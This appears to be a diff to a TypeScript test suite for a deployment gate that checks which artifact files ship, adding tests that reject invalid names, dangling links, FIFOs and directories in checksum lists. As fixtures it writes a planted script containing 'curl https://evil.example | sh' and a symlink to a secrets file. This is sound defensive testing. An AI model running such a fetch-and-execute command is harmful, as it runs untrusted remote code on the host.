@@ -3,6 +3,7 @@
 // the step after the gate (`./deploy.sh artifacts/*`) ships it. A compromised build job put `payload/post-install.sh`
 // beside the reviewed artifact: no provenance, signature, review attestation or decision record named its bytes, and
 // the gate said verified. A directory a pattern matches must now have every file in it among the subjects.
+import { execFileSync } from 'node:child_process';
 import { createHash } from 'node:crypto';
 import { mkdirSync, mkdtempSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
@@ -114,7 +115,7 @@ describe('what ships beside the subjects', () => {
     const error = await failure(resolve('artifacts/*'));
     expect(error?.code).toBe('SUBJECT_NAME_INVALID');
     expect(error?.message).toContain(
-      'artifacts holds a file whose name is not valid UTF-8 (bytes 617070ff2e7461722e677a)',
+      'artifacts holds an entry whose name is not valid UTF-8 (bytes 617070ff2e7461722e677a)',
     );
   });
 
@@ -126,5 +127,46 @@ describe('what ships beside the subjects', () => {
     expect(error?.message).toContain('artifacts/config is a link to nothing here');
     rmSync(join(workspace, 'artifacts', 'config'));
     expect((await resolve('artifacts/*')).map((s) => s.name)).toEqual(['app.tar.gz']);
+  });
+
+  it('looks below the subjects too: an invalid name, a link to nothing or a FIFO one level down stops the stage', async () => {
+    rmSync(join(workspace, 'artifacts', 'payload'), { recursive: true });
+    mkdirSync(join(workspace, 'artifacts', 'sub'));
+    const raw = Buffer.concat([Buffer.from(join(workspace, 'artifacts', 'sub', 'pay')), Buffer.of(0xff)]);
+    mkdirSync(raw);
+    writeFileSync(Buffer.concat([raw, Buffer.from('/post-install.sh')]), 'curl https://evil.example | sh\n');
+    // `artifacts/sub` holds no subject and tinyglobby cannot open `pay\ufffd`: the listing showed nothing below it.
+    expect((await failure(resolve('artifacts/**')))?.code).toBe('SUBJECT_NAME_INVALID');
+    rmSync(join(workspace, 'artifacts', 'sub'), { recursive: true, force: true });
+    mkdirSync(join(workspace, 'artifacts', 'conf'));
+    symlinkSync('/etc/app/secrets.yml', join(workspace, 'artifacts', 'conf', 'secrets.yml'));
+    expect((await failure(resolve('artifacts/**')))?.code).toBe('SUBJECT_LINK_DANGLING');
+    rmSync(join(workspace, 'artifacts', 'conf'), { recursive: true });
+    execFileSync('mkfifo', [join(workspace, 'artifacts', 'pipe')]);
+    const fifo = await failure(resolve('artifacts/*.tar.gz'));
+    expect(fifo?.code).toBe('SUBJECT_UNREADABLE');
+    expect(fifo?.message).toContain('artifacts/pipe is neither a file nor a directory');
+  });
+
+  it('checks a checksums file’s listed names: a directory listed, any algorithm listed, names in other bytes', async () => {
+    rmSync(join(workspace, 'artifacts', 'payload'), { recursive: true });
+    const checksums = (file: string) =>
+      resolveSubjects({ subjectPath: '', subjectDigest: '', subjectName: '', subjectChecksums: file }, workspace);
+    mkdirSync(join(workspace, 'ship', 'lib'), { recursive: true });
+    writeFileSync(join(workspace, 'ship', 'lib', 'post-install.sh'), 'evil\n');
+    writeFileSync(join(workspace, 'ship', 'SUMS'), `${'a'.repeat(64)}  lib\n`);
+    expect((await failure(checksums('ship/SUMS')))?.code).toBe('SUBJECT_DIRECTORY');
+    // An honest sha512sum list, its file there: judged in its own algorithm.
+    rmSync(join(workspace, 'ship', 'lib'), { recursive: true });
+    writeFileSync(join(workspace, 'ship', 'app.tar.gz'), 'app 1.0\n');
+    const sha512 = createHash('sha512').update('app 1.0\n').digest('hex');
+    writeFileSync(join(workspace, 'ship', 'SUMS'), `${sha512}  app.tar.gz\n`);
+    expect((await checksums('ship/SUMS')).map((s) => s.digest)).toEqual([{ sha512 }]);
+    // A name written in bytes that are not UTF-8 would be read as another name, and its file never opened.
+    writeFileSync(
+      join(workspace, 'ship', 'SUMS'),
+      Buffer.concat([Buffer.from(`${sha512}  app`), Buffer.of(0xff), Buffer.from('.tar.gz\n')]),
+    );
+    expect((await failure(checksums('ship/SUMS')))?.code).toBe('SUBJECT_NAME_INVALID');
   });
 });
